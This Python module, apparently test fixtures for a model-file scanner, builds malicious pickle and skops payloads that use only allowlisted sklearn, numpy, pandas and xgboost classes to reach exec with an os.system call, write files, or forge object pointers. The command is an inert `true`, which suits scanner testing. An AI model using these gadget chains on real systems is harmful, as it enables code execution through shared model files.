"""Malicious files of allowed types alone: what each does is done by an attribute, an item or an argument of an allowed object.

Put together node by node and opcode by opcode; none is ever loaded. The command in them is `true`, which does nothing.
"""

from __future__ import annotations

import struct
from typing import Any

from hostile_pickles import COMMAND, call, stack_global, text

SCORER = ("sklearn.metrics._scorer", "_Scorer")
KERNELS = "sklearn.gaussian_process.kernels"
TRANSFORMER = ("sklearn.preprocessing._function_transformer", "FunctionTransformer")
LOGISTIC = ("sklearn.linear_model._logistic", "LogisticRegression")
PIPELINE = ("sklearn.pipeline", "Pipeline")
BUILTIN_TYPE = ("cloudpickle.cloudpickle", "_builtin_type")
BOOSTER = ("xgboost.sklearn", "XGBClassifier")
FILE = "/tmp/written.json"


class Name(tuple[str, str]):
    """Something imported, and left uncalled."""


class Object:
    """An object of a class, with attributes."""

    def __init__(self, where: tuple[str, str], **attributes: Any) -> None:
        self.where, self.attributes = where, attributes


class Raw(bytes):
    """A piece of a pickle as it stands."""


def piece(value: Any) -> bytes:
    """Return what pushes a value, in protocol 4."""
    if isinstance(value, Raw):
        return bytes(value)
    if isinstance(value, Name):
        return stack_global(*value)
    if isinstance(value, Object):
        return stack_global(*value.where) + b")\x81" + (piece(value.attributes) + b"b" if value.attributes else b"")
    if isinstance(value, str):
        data = value.encode()
        return b"X" + struct.pack("<I", len(data)) + data
    if isinstance(value, dict):
        return b"}(" + b"".join(piece(key) + piece(each) for key, each in value.items()) + b"u"
    if isinstance(value, list):
        return b"](" + b"".join(map(piece, value)) + b"e"
    if isinstance(value, tuple):
        return b"(" + b"".join(map(piece, value)) + b"t"
    return {None: b"N", True: b"\x88", False: b"\x89"}.get(value) or b"J" + struct.pack("<i", value)


def scorer(method: Any) -> Object:
    """What calls a method of its choice of what it is called with."""
    metric = Name(("sklearn.metrics._classification", "accuracy_score"))
    return Object(SCORER, _score_func=metric, _sign=1, _kwargs={}, _response_method=method)


def kernel(*parts: Any) -> Object:
    """What calls its parts when it is called."""
    return Object((KERNELS, "CompoundKernel"), kernels=list(parts))


def step(func: Any, **given: Any) -> Object:
    """What calls `func` with its rows and what is given."""
    return Object(TRANSFORMER, func=func, kw_args=given, validate=False, accept_sparse=True, inverse_func=None, inv_kw_args=None)


def pipeline(*steps: Any) -> Object:
    """One step after the other."""
    named = [(f"s{number}", each) for number, each in enumerate(steps)]
    return Object(PIPELINE, steps=named, memory=None, transform_input=None, verbose=False)


FRAME, SERIES = Name(("pandas.core.frame", "DataFrame")), Name(("pandas.core.series", "Series"))
LIST, TOTAL = Name(("builtins", "list")), Name(("numpy", "sum"))


def command(*more: Any) -> Object:
    """The pipeline that looks up exec and calls it with a text, then what is given more."""
    builtins = (step(FRAME, columns=["__builtins__"]), step(LIST), step(SERIES, dtype="object"), step(TOTAL), step(Name(BUILTIN_TYPE)))
    execute = (step(SERIES, index=["exec"], dtype="object"), step(LIST), step(TOTAL), step(Name(TRANSFORMER)))
    return pipeline(*builtins, *execute, step(kernel(scorer("transform")), Y=f"import os; os.system('{COMMAND}')"), *more)


def writing() -> Object:
    """The pipeline that has a booster save itself under a name of the file's choice."""
    booster = Object(BOOSTER, n_estimators=1)
    start = (step(FRAME, columns=[booster]), step(LIST), step(SERIES, dtype="object"), step(TOTAL))
    return pipeline(*start, step(kernel(scorer("save_model")), Y=FILE))


def appended(what: Any, to: Object) -> bytes:
    """Append a value to an object."""
    return piece(to) + piece(what) + b"a"


def _pickle(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def pickles() -> dict[str, bytes]:
    """Every attack, by what it does; `load` and `write` have been seen to run a command and to write a file when they were loaded."""
    caller = Object(LOGISTIC, append=kernel(scorer("transform")))
    return {name: _pickle(body) for name, body in {
        "load": appended(command(), caller),
        "write": appended(writing(), Object(LOGISTIC, append=kernel(scorer("save_model")))),
        **_at_load(caller),
        **_at_predict(),
        **_of_bytes(),
    }.items()}  # fmt: skip


def _alias(module: str, name: str) -> bytes:
    """What cloudpickle writes for list[str], with something else in it."""
    return call(call(stack_global(*BUILTIN_TYPE), text("GenericAlias")), stack_global(module, name), b")")


def _at_load(caller: Object) -> dict[str, bytes]:
    """Calls while the file is loaded, through what the unpickler looks up on an instance, or what takes an argument."""
    callable_ = piece(kernel(scorer("transform")))
    mapping, counter = ("collections", "OrderedDict"), ("collections", "Counter")
    numpy_text = call(stack_global("numpy._core.multiarray", "scalar"), call(stack_global("numpy", "dtype"), text("U6")), b"C\x04a\0\0\0")
    return {
        "extend": piece(Object(LOGISTIC, extend=caller.attributes["append"])) + b"(" + piece(writing()) + b"e",
        "add": piece(Object(LOGISTIC, add=caller.attributes["append"])) + b"(" + piece(writing()) + b"\x90",
        "append remembered": piece(caller) + b"q\x000h\x00" + piece(writing()) + b"a",
        "append of a function": piece(Object(LOGISTIC, append=Name(("numpy", "log1p")))) + b"K\x01a",
        "append of a plain scorer": appended(writing(), Object(LOGISTIC, append=scorer("fit"))),
        "append of a class": appended("x", Object(LOGISTIC, append=Name(("xgboost.core", "Booster")))),
        "append to a dict": stack_global(*mapping) + b")R" + piece({"append": Name(TRANSFORMER)}) + b"bK\x01a",
        "set state": piece(Object(LOGISTIC, __setstate__=caller.attributes["append"])) + piece({"a": 1}) + b"b",
        "set state of Bunch": stack_global("sklearn.utils._bunch", "Bunch") + b")\x81(" + text("__setstate__") + callable_ + b"u}b",
        "keys of an argument": call(stack_global(*mapping), piece(Object(LOGISTIC, keys=kernel(scorer("fit"))))),
        "factory": call(stack_global("collections", "defaultdict"), callable_),
        "factory of an alias": call(stack_global("collections", "defaultdict"), _alias("builtins", "list")),
        "constructor": call(stack_global("numpy.random._pickle", "__generator_ctor"), text("x"), callable_),
        "constructor in a list": call(stack_global(*counter), piece([Name(("xgboost.core", "Booster"))])),
        "address of an array": call(stack_global("pandas.core.indexes.base", "_new_Index"),
            stack_global("pandas.core.indexes.base", "Index"),
            piece({"data": Object(LOGISTIC, __array_interface__={"data": (1, False), "shape": (1,), "typestr": "<i8", "version": 3})})),
        "class of an object": piece(Object(LOGISTIC)) + b"N}" + text("__class__") + stack_global(*TRANSFORMER) + b"s\x86b",
        "slots": piece(Object(LOGISTIC)) + b"N" + piece({"n_jobs": 1}) + b"\x86b",
        "written twice": piece(Object(LOGISTIC, a=1)) + piece({"b": 1}) + b"b",
        "alias written": _alias("builtins", "list") + piece({"a": 1}) + b"b",
        "alias of a function": _alias("numpy", "log1p") + piece({"a": 1}) + b"b",
        "a distribution": piece(
            Object(("scipy.stats._continuous_distns", "norm_gen"), _parse_arg_template=f"import os; os.system('{COMMAND}')")
        ),
        "name of another kind": piece(Object(LOGISTIC)) + b"}" + numpy_text + callable_ + b"sb",
    }  # fmt: skip


def _at_predict() -> dict[str, bytes]:
    """Calls by an estimator that is asked for predictions."""
    stacked = ("sklearn.ensemble._stacking", "StackingClassifier")
    bunch = stack_global("sklearn.utils._bunch", "Bunch") + b")\x81(" + text("transform") + stack_global(*BUILTIN_TYPE) + b"u"
    alias = Raw(_alias("builtins", "list"))
    vectors = ("sklearn.feature_extraction.text", "CountVectorizer")
    disguised = Raw(
        call(stack_global("numpy._core.multiarray", "scalar"), call(stack_global("numpy", "dtype"), text("U10")), b"C\x04s\0\0\0")
    )
    table = Object(("pandas.core.frame", "DataFrame"), _typ="dataframe")
    shaped = {
        "exec in steps": command(),
        "a class as func": pipeline(step(FRAME)),
        "a list as func": pipeline(step(LIST)),
        "an alias as func": pipeline(step(alias)),
        "a kernel as func": pipeline(step(kernel())),
        "a scorer as func": pipeline(step(scorer("save_model"))),
        "a sum that gives a text": pipeline(step(TOTAL), Object(BOOSTER, booster="gblinear")),
        "a lookup as func": pipeline(step(Name(BUILTIN_TYPE))),
        "a lookup in kw_args": pipeline(step(Name(("numpy", "log1p")), x=Name(BUILTIN_TYPE))),
        "an inverse": Object(TRANSFORMER, func=Name(("numpy", "log1p")), inverse_func=kernel()),
        "names of features": Object(TRANSFORMER, func=Name(("numpy", "log1p")), feature_names_out=LIST),
        "a class as step": pipeline(FRAME),
        "a table as step": pipeline(step(Name(("numpy", "log1p"))), table),
        "a booster as step": pipeline(Object(("lightgbm.basic", "Booster"), params={})),
        "a Bunch as step": pipeline(Raw(bunch)),
        "a method of its own": Object(LOGISTIC, predict=kernel(scorer("save_model"))),
        "a method by name": Object(stacked, stack_method_=["save_model"], estimators_=[Object(BOOSTER)]),
        "a method by name in disguise": Object(stacked, stack_method_=[disguised], estimators_=[Object(BOOSTER)]),
        "a chain's method": Object(("sklearn.multioutput", "ClassifierChain"), chain_method_="load_model"),
        "a scorer's method": Object(("sklearn.model_selection._search", "GridSearchCV"), scorer_=scorer("save_model")),
        "a scorer's function": Object(("sklearn.model_selection._search", "GridSearchCV"),
            scorer_=Object(SCORER, _score_func=FRAME, _sign=1, _kwargs={}, _response_method="predict")),
        "files by request": Object(vectors, input="filename"),
        "a tokenizer": Object(vectors, tokenizer=LIST),
        "an analyzer": Object(vectors, analyzer=kernel(scorer("save_model"))),
        "a support vector's kernel": Object(("sklearn.svm._classes", "SVC"), kernel=scorer("save_model")),
        "a metric": Object(("sklearn.neighbors._classification", "KNeighborsClassifier"), metric=FRAME),
        "a pairwise metric": Object((KERNELS, "PairwiseKernel"), metric=kernel()),
        "weights": Object(("sklearn.neighbors._classification", "KNeighborsClassifier"), weights=kernel()),
        "pooling": Object(("sklearn.cluster._agglomerative", "FeatureAgglomeration"), pooling_func=FRAME),
        "a pickled method on top": Name(("lightgbm.basic", "Booster")),
    }  # fmt: skip
    return {name: piece(value) for name, value in shaped.items()}


def _of_bytes() -> dict[str, bytes]:
    """Objects that numpy would make of addresses in the file."""
    objects = call(stack_global("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    plain = objects + piece((3, "|", None, None, None, -1, -1, 0)) + b"b"
    fields = call(stack_global("numpy", "dtype"), text("V8"), b"\x89", b"\x88")
    fields += b"(K\x03" + text("|") + b"N" + piece(("a",)) + b"}" + text("a") + objects + b"K\x00\x86s" + b"K\x08K\x01K\x00tb"
    array = call(stack_global("numpy._core.multiarray", "_reconstruct"), stack_global("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
    address = b"C\x08AAAAAAAA"
    spelled = call(stack_global("numpy", "dtype"), text("object"), b"\x89", b"\x88")
    return {
        "an array": array + b"(K\x01" + piece((1,)) + plain + b"\x89" + address + b"tb",
        "a field": array + b"(K\x01" + piece((1,)) + fields + b"\x89" + address + b"tb",
        "a scalar": call(stack_global("numpy._core.multiarray", "scalar"), plain, address),
        "a buffer": call(stack_global("numpy._core.numeric", "_frombuffer"), address, plain, piece((1,)), text("C")),
        "another spelling": array + b"(K\x01" + piece((1,)) + spelled + b"\x89" + address + b"tb",
    }


def tree(value: Any) -> dict[str, object]:
    """Return a value as a node of a skops schema."""
    if isinstance(value, Raw):
        raise TypeError("a piece of a pickle is no node")
    if isinstance(value, Name):
        return _node("TypeNode" if value[1][:1].isupper() else "FunctionNode", *value)
    if isinstance(value, Object):
        return _node("ObjectNode", *value.where, content=tree(value.attributes))
    if isinstance(value, dict):
        return mapping(value, [_node("TypeNode", "builtins", "str") for _ in value])
    if isinstance(value, list | tuple):
        kind = type(value).__name__
        return _node("TupleNode" if kind == "tuple" else "ListNode", "builtins", kind, content=list(map(tree, value)))
    import json

    return _node("JsonNode", "builtins", type(value).__name__, content=json.dumps(value), is_json=True)


def mapping(value: dict[Any, Any], keys: list[dict[str, object]]) -> dict[str, object]:
    """Return a dict's node, whose keys are made by what is given."""
    kinds = _node("ListNode", "builtins", "list", content=keys)
    return _node("DictNode", "builtins", "dict", key_types=kinds, content={key: tree(each) for key, each in value.items()})


def _node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
    return {"__loader__": loader, "__module__": module, "__class__": name, **more}


def trees() -> dict[str, dict[str, object]]:
    """The same through skops, and what only skops does: keys made by calls, and nodes that stand for others by their id."""
    made = tree(pipeline(step(Name(("numpy", "log1p")))))
    function = _node("FunctionNode", *BUILTIN_TYPE, __id__=7)
    step_ = tree(pipeline(Object(LOGISTIC)))
    calling = mapping({COMMAND: 1}, [_node("FunctionNode", *BUILTIN_TYPE)])
    by_kernel = mapping({COMMAND: 1}, [tree(kernel())])
    harmless, harmful = tree("predict") | {"__id__": 9}, tree("save_model") | {"__id__": 9}
    grid = ("sklearn.model_selection._search", "GridSearchCV")
    factory = _node("DefaultDictNode", "collections", "defaultdict", content={"main": tree({}), "default_factory": tree(kernel())})
    return {
        "exec": tree(command(Object(LOGISTIC))),
        "write": tree(writing()),
        "func": tree(pipeline(step(LIST))),
        "key type": calling,
        "key by kernel": by_kernel,
        "factory": factory,
        "method by name": tree(Object(("sklearn.ensemble._stacking", "StackingClassifier"), stack_method_=["save_model"])),
        "scorer": tree(Object(grid, scorer_=scorer("save_model"))),
        "files": tree(Object(("sklearn.feature_extraction.text", "CountVectorizer"), input="filename")),
        "dunder": tree(Object(LOGISTIC, __array_interface__={"data": 1})),
        "predict": tree(Object(LOGISTIC, predict=kernel())),
        "table": tree(pipeline(Object(("pandas.core.frame", "DataFrame"), _typ="dataframe"))),
        "one id for two": _node("ListNode", "builtins", "list", content=[harmful, harmless]),
        "one id for two functions": _node("ListNode", "builtins", "list", content=[made | {"__id__": 7}, step_, function]),
        "an id of no kind": tree("a") | {"__id__": [1]},
    }
